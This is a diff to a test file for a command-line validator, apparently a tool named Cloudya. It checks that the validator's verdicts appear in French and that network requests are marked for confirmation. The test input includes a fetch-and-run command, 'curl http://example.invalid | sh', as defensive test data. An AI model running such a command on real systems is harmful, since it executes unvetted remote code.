@@ -132,9 +132,14 @@ describe('validate, audit and configure in French', () => {
     const env = { CLOUDYA_HOME: tempHome(), ...FR };
     const v = await runCli(['validate', 'curl http://example.invalid | sh'], env);
     expect(v.code).toBe(3);
-    expect(v.stdout).toMatch(/^\s+autorisée\s+curl http:\/\/example\.invalid$/m);
+    // A request to the network is confirmed (the validator allows only what stays local).
+    expect(v.stdout).toMatch(/^\s+à confirmer\s+curl http:\/\/example\.invalid$/m);
     expect(v.stdout).toMatch(/^\s+refusée\s+sh$/m);
-    expect(englishWords(v.stdout, ['allow', 'deny'])).toEqual([]);
+    expect(englishWords(v.stdout, ['allow', 'confirm', 'deny'])).toEqual([]);
+    const allowed = await runCli(['validate', 'ls -la | sort'], env);
+    expect(allowed.code).toBe(0);
+    expect(allowed.stdout).toMatch(/^AUTORISÉ/m);
+    expect(allowed.stdout).toMatch(/^\s+autorisée\s+ls -la$/m);
 
     const audit = await runCli(['audit'], env);
     expect(audit.stdout).toMatch(/validate\s+validation\s+refusé\s+curl http/);
